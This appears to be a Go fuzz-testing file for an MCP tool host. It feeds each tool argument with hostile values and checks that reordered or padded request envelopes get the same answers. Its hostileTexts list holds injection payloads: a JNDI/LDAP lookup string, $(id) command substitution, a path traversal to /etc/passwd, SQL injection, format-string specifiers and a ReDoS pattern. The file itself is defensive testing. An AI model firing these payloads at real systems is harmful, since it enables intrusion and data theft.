package trial

import (
	"context"
	"fmt"
	"slices"
	"strings"

	"github.com/killdeer-mcp/killdeer/internal/wasm"
	"github.com/killdeer-mcp/killdeer/sdk"
	"github.com/killdeer-mcp/killdeer/sdk/guest"
)

// hostileTexts are what attackers send where a text may stand, as JSON strings.
var hostileTexts = []string{
	`""`,
	`"\u0000"`,
	`"\ud800"`,
	`"` + strings.Repeat("A", 64<<10) + `"`,
	`"` + strings.Repeat("\U0001d518", 4<<10) + `"`,
	`"\"}],\"isError\":false,\"x\":[{\"y\":\""`,
	`"\\\\\\\"\u2028\u2029\b\f\n\r\t"`,
	`"{{canary:aws_key:x}}{{fake:login:1}}{{mark:canary:aws_key:x}}{{"`,
	`"{{.}}{{range .}}{{end}}${jndi:ldap://192.0.2.1/a}$(id)` + "`id`" + `%s%n%x"`,
	`"../../../../etc/passwd"`,
	`"' OR '1'='1' -- "`,
	`"(a+)+$"`,
	`"-1"`,
	`"` + strings.Repeat("[", 4<<10) + `"`,
}

// hostileNumbers are what attackers send where a number may stand.
var hostileNumbers = []string{"-1", "0", "9223372036854775807", "-9223372036854775808", "1e308", "-0.0", "0.1", "9007199254740993"}

// hostile calls every tool with what attackers send, as far as a sensor would let it
// through, and sends envelopes that a later sensor may send.
func (t *trial) hostile(ctx context.Context, subjects []subject) {
	for _, s := range subjects {
		for _, c := range t.attacks(s) {
			if t.failed >= maxFailures || ctx.Err() != nil {
				return
			}
			source := t.source()
			t.report.Hostile++
			t.call(ctx, s.name, source, c)
			t.host.Release(source)
		}
	}
	t.envelopes(ctx)
}

// attacks are the calls that replace each argument by each hostile value.
func (t *trial) attacks(s subject) (all []*sdk.Call) {
	if len(s.calls) == 0 {
		return nil
	}
	first := s.calls[0]
	each := func(object []byte, values []string, put func(c *sdk.Call, changed []byte)) {
		o, _ := guest.ParseObject(object)
		for _, key := range o.Keys() {
			for _, v := range values {
				c := *first
				put(&c, replaced(o, key, v))
				all = append(all, &c)
			}
		}
	}
	switch {
	case first.Op == sdk.OpCall:
		each(first.Args, append(slices.Clone(hostileTexts), hostileNumbers...), func(c *sdk.Call, v []byte) { c.Args = v })
		args, _ := guest.ParseObject(first.Args)
		for _, more := range [][]byte{replaced(args, "unexpected", `{"a":`+strings.Repeat("[", 40)+strings.Repeat("]", 40)+`}`), []byte("{}")} {
			c := *first
			c.Args = more
			all = append(all, &c)
		}
		return slices.DeleteFunc(all, func(c *sdk.Call) bool { return !s.takes(c.Args) })
	case first.Op == sdk.OpPrompt:
		each(first.Args, hostileTexts, func(c *sdk.Call, v []byte) { c.Args = v })
	case first.Template != "":
		each(first.Vars, hostileTexts, func(c *sdk.Call, v []byte) { c.Vars = v })
	case first.Op == sdk.OpComplete:
		each(first.Argument, hostileTexts, func(c *sdk.Call, v []byte) {
			if o, err := guest.ParseObject(v); err == nil {
				c.Argument = replaced(o, "name", string(argumentName(first)))
			}
		})
	}
	return all
}

// argumentName is the name that a completion is asked for: a client's must be one
// that there is.
func argumentName(c *sdk.Call) []byte {
	o, _ := guest.ParseObject(c.Argument)
	return o.Raw("name")
}

// takes reports whether a sensor would let arguments through to the tool.
func (s *subject) takes(args []byte) bool {
	problems, err := s.schema.Problems(args)
	return err == nil && problems == nil
}

// replaced is an object with one member replaced, or added.
func replaced(o guest.Object, key, value string) []byte {
	var w guest.Writer
	w.Obj()
	found := false
	for _, k := range o.Keys() {
		w.Key(k)
		if k == key {
			found = true
			w.Raw([]byte(value))
		} else {
			w.Raw(o.Raw(k))
		}
	}
	if !found {
		w.Key(key).Raw([]byte(value))
	}
	return w.End().Bytes()
}

// envelopes sends the first call in forms that the ABI allows and that this host
// does not use.
func (t *trial) envelopes(ctx context.Context) {
	if len(t.done) == 0 || t.failed > 0 {
		return
	}
	r := t.done[0]
	o, err := guest.ParseObject(r.request.Input)
	if err != nil {
		return
	}
	var reversed guest.Writer
	reversed.Obj()
	for _, key := range slices.Backward(o.Keys()) {
		reversed.Key(key).Raw(o.Raw(key))
	}
	for _, e := range []struct{ what, remedy, in string }{
		{"with its members in another order", "read the envelope as JSON: the order of keys is free", string(reversed.End().Bytes())},
		{"with a member that the ABI may get one day", "ignore members that you do not know", string(replaced(o, "later", `{"a":[1,null,{"b":"c"}]}`))},
		{"with space between its tokens", "read the envelope as JSON: space is free", strings.Replace(string(r.request.Input), `"op":`, "\"op\" :\n\t", 1) + "\n"},
	} {
		t.report.Calls++
		t.report.Hostile++
		reply, err := t.guest.Guest.Call(ctx, wasm.Request{Input: []byte(e.in), Now: r.request.Now, Deadline: r.request.Deadline})
		switch {
		case err != nil:
			t.found(Error, r.subject, fmt.Sprintf("the same envelope %s fails: %v", e.what, err), e.remedy)
		case string(reply.Output) != string(r.output):
			t.found(Error, r.subject, fmt.Sprintf("the same envelope %s is answered differently: %s", e.what, difference(r.output, reply.Output)), e.remedy)
		}
	}
}
